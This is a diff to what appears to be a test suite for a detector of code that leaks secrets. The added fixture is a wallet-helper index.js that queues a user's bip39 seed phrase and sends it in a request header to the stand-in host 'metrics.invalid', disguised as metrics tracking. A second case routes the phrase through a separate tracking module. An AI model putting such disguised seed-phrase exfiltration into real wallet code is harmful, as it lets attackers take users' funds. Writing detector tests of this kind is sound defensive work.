@@ -6,6 +6,13 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'it waits in a queue of the same file',
+      files: {
+        'index.js': `const https = require('https'), { validateMnemonic } = require('bip39'); const queue = []; function flush() { for (const [event, ctx] of queue.splice(0)) https.request({ host: 'metrics.invalid', headers: { 'x-id': ctx.ref } }).end(); } function track(event, ctx) { queue.push([event, ctx]); setTimeout(flush, 1500); } exports.open = words => { validateMnemonic(words); track('open', { ref: words }); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'it waits in a queue, under another name, until another file sends all that is there',
       files: {
         'index.js': `const { validateMnemonic } = require('bip39'); const { track } = require('./track'); exports.open = words => { if (!validateMnemonic(words)) throw new Error('words'); track('open', { kind: 'words', ref: words }); };`,
